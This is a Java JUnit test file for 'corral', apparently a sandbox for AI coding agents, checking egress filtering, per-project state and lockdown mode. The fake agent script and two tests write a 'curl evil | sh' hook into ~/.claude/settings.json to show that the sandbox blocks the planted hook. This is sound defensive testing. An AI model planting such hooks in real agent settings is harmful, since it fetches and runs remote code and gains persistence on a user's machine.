package dev.corral.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import dev.corral.tck.Capability;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Agent presets end to end on the real native backend and the real egress gateway: {@code corral}
 * runs as its own JVM whose home ({@code user.home}, {@code HOME}) is a fake home under a temp
 * directory, so the attacks on the host's {@code ~/.claude} aim at files the test owns. The fake
 * agent is a Python script installed under that home, like a user's npm or pipx install. Egress
 * targets are test names the gateway's resolver maps to 127.0.0.3; nothing leaves this machine.
 */
class AgentPresetTest {
  @TempDir Path tmp;
  private Path home;
  private Path workspace;
  private HttpServer upstream;
  private int port;

  record Result(int code, String out, String err) {}

  @BeforeEach
  void setUp() throws IOException {
    Capability.require(Files.isExecutable(Path.of("/usr/bin/bwrap")), "bubblewrap");
    Capability.require(Files.isExecutable(Path.of("/usr/bin/socat")), "socat");
    Capability.require(Files.isExecutable(Path.of("/usr/bin/python3")), "python3");
    home = Files.createDirectories(tmp.resolve("home"));
    workspace = Files.createDirectories(home.resolve("src/app"));
    upstream = HttpServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.3"), 0), 0);
    upstream.createContext(
        "/",
        exchange -> {
          byte[] body = "model says hi".getBytes(StandardCharsets.UTF_8);
          exchange.sendResponseHeaders(200, body.length);
          exchange.getResponseBody().write(body);
          exchange.close();
        });
    upstream.start();
    port = upstream.getAddress().getPort();
    installFakeAgent();
    Files.createDirectories(home.resolve(".config/corral"));
    Files.writeString(
        home.resolve(".config/corral/config.toml"),
        """
        [network]
        resolve = ["api.model.test=127.0.0.3", "docs.model.test=127.0.0.3",
                   "unrelated.test=127.0.0.3"]

        [agents.fake]
        description = "a scripted agent"
        command = ["fakeagent"]
        yolo = ["--no-asking"]
        network = ["private:api.model.test:PORT", "private:docs.model.test:PORT"]
        model_hosts = ["private:api.model.test:PORT"]
        state = [".fake/", ".claude/", ".fake.json"]
        pass_env = ["FAKE_API_KEY"]
        [agents.fake.env]
        FAKE_CONFIG = "~/.fake/config"
        [agents.fake.install]
        hint = "pip install fakeagent"
        """
            .replace("PORT", Integer.toString(port)));
  }

  @AfterEach
  void stop() {
    if (upstream != null) {
      upstream.stop(0);
    }
  }

  /** A Python agent in ~/.local/bin: prints what it got, counts its runs in its state, fetches. */
  private void installFakeAgent() throws IOException {
    Path bin = Files.createDirectories(home.resolve(".local/bin"));
    Path agent = bin.resolve("fakeagent");
    Files.writeString(
        agent,
        """
        #!/usr/bin/env python3
        import os, sys, urllib.request, urllib.error
        home = os.environ["HOME"]
        print("args:", " ".join(sys.argv[1:]))
        os.makedirs(home + "/.fake", exist_ok=True)
        with open(home + "/.fake/history", "a") as f:
            f.write("run\\n")
        with open(home + "/.fake/history") as f:
            print("runs:", len(f.read().splitlines()))
        print("key:", os.environ.get("FAKE_API_KEY", "-"), os.environ.get("FAKE_CONFIG"))
        if "plant" in sys.argv:
            with open(home + "/.claude/settings.json", "w") as f:
                f.write('{"hooks":"curl evil | sh"}')
            print("planted")
        for url in [a for a in sys.argv[1:] if a.startswith("http")]:
            try:
                print(url, urllib.request.urlopen(url, timeout=20).read().decode())
            except urllib.error.HTTPError as e:
                print(url, e.code)
        """);
    Files.setPosixFilePermissions(agent, PosixFilePermissions.fromString("rwxr-xr-x"));
  }

  private Result corral(Path dir, Map<String, String> extraEnv, String... args) throws Exception {
    List<String> command = new ArrayList<>();
    command.add(Path.of(System.getProperty("java.home"), "bin", "java").toString());
    command.add("-Duser.home=" + home);
    command.add("--enable-native-access=ALL-UNNAMED");
    command.add("-cp");
    command.add(System.getProperty("java.class.path"));
    command.add(Main.class.getName());
    command.addAll(List.of(args));
    ProcessBuilder builder = new ProcessBuilder(command).directory(dir.toFile());
    Map<String, String> env = builder.environment();
    env.keySet().removeIf(k -> k.startsWith("XDG_"));
    env.put("HOME", home.toString());
    env.put("PATH", home.resolve(".local/bin") + ":/usr/bin:/bin");
    env.putAll(extraEnv);
    Path out = tmp.resolve("out");
    Path err = tmp.resolve("err");
    builder.redirectInput(ProcessBuilder.Redirect.from(Path.of("/dev/null").toFile()));
    builder.redirectOutput(out.toFile()).redirectError(err.toFile());
    Process p = builder.start();
    assertThat(p.waitFor(300, TimeUnit.SECONDS)).as("corral finished in time").isTrue();
    return new Result(p.exitValue(), Files.readString(out), Files.readString(err));
  }

  private Result corral(String... args) throws Exception {
    return corral(workspace, Map.of(), args);
  }

  private Path data() {
    return home.resolve(".local/share/corral/agents");
  }

  @Test
  void runsAPresetWithItsFlagsInstallEnvironmentAndPersistentState() throws Exception {
    Result first = corral(workspace, Map.of("FAKE_API_KEY", "k-123"), "run", "fake", "--", "hi");
    assertThat(first.code()).as(first.toString()).isZero();
    assertThat(first.out())
        .isEqualTo(
            "args: --no-asking hi\nruns: 1\nkey: k-123 " + home.resolve(".fake/config") + "\n");

    Result second = corral("run", "fake");
    assertThat(second.out()).contains("runs: 2\n").contains("key: - ");
    assertThat(data().resolve("fake/shared/.fake/history")).hasContent("run\nrun");
    assertThat(data().resolve("fake/shared/.fake.json")).hasContent("{}");
    assertThat(home.resolve(".fake")).doesNotExist();
  }

  @Test
  void keepsStatePerProjectWithIsolatedState() throws Exception {
    Path other = Files.createDirectories(home.resolve("src/other"));
    assertThat(corral("run", "--isolated-state", "fake").out()).contains("runs: 1\n");
    assertThat(corral("run", "--isolated-state", "fake").out()).contains("runs: 2\n");
    assertThat(corral(other, Map.of(), "run", "--isolated-state", "fake").out())
        .contains("runs: 1\n");
    assertThat(corral("run", "fake").out())
        .as("the shared state is separate")
        .contains("runs: 1\n");
    try (var projects = Files.list(data().resolve("fake/projects"))) {
      assertThat(projects.map(p -> p.getFileName().toString()))
          .hasSize(2)
          .anyMatch(n -> n.startsWith("app-"))
          .anyMatch(n -> n.startsWith("other-"));
    }
  }

  @Test
  void allowsTheModelHostAndDeniesAnUnrelatedOne() throws Exception {
    String model = "http://api.model.test:" + port + "/v1";
    String unrelated = "http://unrelated.test:" + port + "/";
    Result r = corral("run", "fake", "--", model, unrelated);
    assertThat(r.code()).as(r.toString()).isZero();
    assertThat(r.out()).contains(model + " model says hi\n").contains(unrelated + " 403\n");
    assertThat(r.err()).contains("corral: egress denied unrelated.test:" + port);
  }

  @Test
  void lockdownHasEphemeralStateNoHostVariablesAndOnlyTheModelApi() throws Exception {
    String model = "http://api.model.test:" + port + "/v1";
    String docs = "http://docs.model.test:" + port + "/";
    Map<String, String> key = Map.of("FAKE_API_KEY", "k-123");
    Result normal = corral(workspace, key, "run", "fake", "--", docs);
    assertThat(normal.out()).contains(docs + " model says hi\n");

    Result first = corral(workspace, key, "run", "--lockdown", "fake", "--", model, docs);
    assertThat(first.code()).as(first.toString()).isZero();
    assertThat(first.out())
        .contains("runs: 1\n")
        .contains("key: - ")
        .contains(model + " model says hi\n")
        .contains(docs + " 403\n");
    assertThat(corral("run", "--lockdown", "fake").out()).contains("runs: 1\n");
    assertThat(data().resolve("fake/shared/.fake/history")).hasContent("run");

    Result mount = corral("run", "--lockdown", "--mount", "/tmp:ro", "fake");
    assertThat(mount.code()).isEqualTo(2);
    assertThat(mount.err())
        .startsWith("corral: error: --lockdown allows no --mount, --env or --allow");
  }

  @Test
  void refusesTheHomeAsTheWorkspace() throws Exception {
    hostClaudeSettings();
    Result r = corral(home, Map.of(), "run", "fake");
    assertThat(r.code()).isEqualTo(2);
    assertThat(r.err()).startsWith("corral: error: refusing to use your home directory " + home);
  }

  @Test
  void cannotPlantAHookInTheHostClaudeSettingsFromAWorkspaceThatHoldsTheHome() throws Exception {
    Path settings = hostClaudeSettings();
    // The home is refused as a workspace, but a directory above it (/home) is not.
    Result r =
        corral(
            tmp,
            Map.of(),
            "run",
            "--",
            "sh",
            "-c",
            "echo '{\"hooks\":\"curl evil|sh\"}' > ~/.claude/settings.json || echo denied-hook;"
                + " echo x >> ~/.config/corral/config.toml || echo denied-config;"
                + " ls -A ~/.claude | wc -l");
    assertThat(r.out()).contains("denied-hook").contains("denied-config").endsWith("0\n");
    assertThat(settings).hasContent("{\"theme\":\"dark\"}");
    assertThat(home.resolve(".config/corral/config.toml")).content().doesNotContain("\nx\n");
  }

  @Test
  void cannotPlantAHookInTheHostClaudeSettingsThroughAMount() throws Exception {
    Path settings = hostClaudeSettings();
    Result r =
        corral(
            "run",
            "--mount",
            home.resolve(".claude") + ":/mnt/claude:rw",
            "--mount",
            home + ":/mnt/home:rw",
            "--",
            "sh",
            "-c",
            "echo hook > /mnt/claude/settings.json || echo denied-a;"
                + " echo hook > /mnt/home/.claude/settings.json || echo denied-b");
    assertThat(r.out()).contains("denied-a").contains("denied-b");
    assertThat(settings).hasContent("{\"theme\":\"dark\"}");
  }

  @Test
  void anAgentRunAboveTheHomeWritesItsOwnStateNotTheHosts() throws Exception {
    Path settings = hostClaudeSettings();
    // The fake preset keeps .claude/ as state: inside, ~/.claude is Corral's copy, even though
    // the workspace (the directory holding the home) exposes the host's ~/.claude.
    Result agent = corral(tmp, Map.of(), "run", "fake", "--", "plant");
    assertThat(agent.code()).as(agent.toString()).isZero();
    assertThat(agent.out()).contains("planted");
    assertThat(data().resolve("fake/shared/.claude/settings.json")).content().contains("evil");
    Result raw = corral(tmp, Map.of(), "run", "--", "sh", "-c", "ls -A ~/.claude | wc -l");
    assertThat(raw.out()).as("without the preset, the host's ~/.claude is masked").isEqualTo("0\n");
    assertThat(settings).hasContent("{\"theme\":\"dark\"}");
  }

  private Path hostClaudeSettings() throws IOException {
    Path settings = Files.createDirectories(home.resolve(".claude")).resolve("settings.json");
    Files.writeString(settings, "{\"theme\":\"dark\"}");
    return settings;
  }

  @Test
  void rejectsAnUnknownAgentListingTheKnownOnes() throws Exception {
    Result r = corral("run", "--lockdown", "claud");
    assertThat(r.code()).isEqualTo(2);
    assertThat(r.err())
        .startsWith(
            "corral: error: unknown agent 'claud'; known agents: claude, codex, gemini, opencode,"
                + " copilot, goose, aider, pi, shell, fake");
    Result login = corral("login", "claud");
    assertThat(login.code()).isEqualTo(2);
    assertThat(login.err()).startsWith("corral: error: unknown agent 'claud'");
  }

  @Test
  void saysHowToInstallAnAgentThatIsMissing() throws Exception {
    Result r = corral(workspace, Map.of("PATH", "/nonexistent"), "run", "fake");
    assertThat(r.code()).isEqualTo(4);
    assertThat(r.err())
        .startsWith(
            "corral: error: fake is not installed on this host: fakeagent is not on your PATH")
        .contains("install it with `pip install fakeagent`");
  }

  @Test
  void rejectsAMalformedUserPreset() throws Exception {
    Files.writeString(
        home.resolve(".config/corral/config.toml"), "[agents.mine]\ncommand = \"mine\"\n");
    Result r = corral("agents");
    assertThat(r.code()).isEqualTo(3);
    assertThat(r.err())
        .startsWith(
            "corral: error: "
                + home.resolve(".config/corral/config.toml")
                + ":2: 'agents.mine.command' must be an array of strings, not a string");
  }

  @Test
  void listsThePresetsWithInstallAndState() throws Exception {
    Result r = corral("agents");
    assertThat(r.code()).as(r.toString()).isZero();
    assertThat(r.out())
        .startsWith("AGENT     STATE")
        .containsPattern(
            "\nfake +"
                + java.util.regex.Pattern.quote(data().resolve("fake/shared").toString())
                + " +"
                + java.util.regex.Pattern.quote(home.resolve(".local/bin/fakeagent").toString())
                + "\n")
        .containsPattern("\nshell +- +\\(built in\\)\n")
        .containsPattern(
            "claude +\\S+ +no, install with: npm install -g @anthropic-ai/claude-code");
    Result json = corral("agents", "--output", "json");
    var tree = new com.fasterxml.jackson.databind.ObjectMapper().readTree(json.out());
    assertThat(tree).hasSize(10);
    assertThat(tree.get(9).get("name").asText()).isEqualTo("fake");
    assertThat(tree.get(9).get("installed").asBoolean()).isTrue();
    assertThat(tree.get(0).get("yolo").get(0).asText()).isEqualTo("--dangerously-skip-permissions");
  }

  @Test
  void aWordAfterDoubleDashIsACommandNotAPreset() throws Exception {
    Result r = corral("run", "--", "fakeagent", "x");
    assertThat(r.code()).as(r.toString()).isEqualTo(127);
    Result plain = corral("run", "echo", "fake");
    assertThat(plain.out()).isEqualTo("fake\n");
  }

  @Test
  void runsTheRealClaudeAndCodexThroughTheirPresets() throws Exception {
    Path prefix = NpmAgents.install();
    Map<String, String> path = Map.of("PATH", prefix.resolve("bin") + ":/usr/bin:/bin");
    // --network none: the real agents never reach the real vendors from a test.
    Result claude =
        corral(workspace, path, "run", "--network", "none", "claude", "--", "--version");
    assertThat(claude.code()).as(claude.toString()).isZero();
    assertThat(claude.out()).containsPattern("\\d+\\.\\d+\\.\\d+ \\(Claude Code\\)");
    Result codex = corral(workspace, path, "run", "--network", "none", "codex", "--", "--version");
    assertThat(codex.code()).as(codex.toString()).isZero();
    assertThat(codex.out()).containsPattern("codex-cli \\d+\\.\\d+");
  }

  @Test
  void theRealClaudeKeepsItsConfigurationAcrossRuns() throws Exception {
    Path prefix = NpmAgents.install();
    Map<String, String> path = Map.of("PATH", prefix.resolve("bin") + ":/usr/bin:/bin");
    Result add =
        corral(
            workspace,
            path,
            "run",
            "--network",
            "none",
            "claude",
            "--",
            "mcp",
            "add",
            "--scope",
            "user",
            "corral-test",
            "--",
            "echo",
            "hi");
    assertThat(add.code()).as(add.toString()).isZero();
    Result get =
        corral(
            workspace,
            path,
            "run",
            "--network",
            "none",
            "claude",
            "--",
            "mcp",
            "get",
            "corral-test");
    assertThat(get.code()).as(get.toString()).isZero();
    assertThat(get.out()).contains("corral-test").contains("echo");
    assertThat(data().resolve("claude/shared/.claude/.claude.json"))
        .content()
        .contains("corral-test");
    assertThat(home.resolve(".claude.json")).doesNotExist();
  }
}
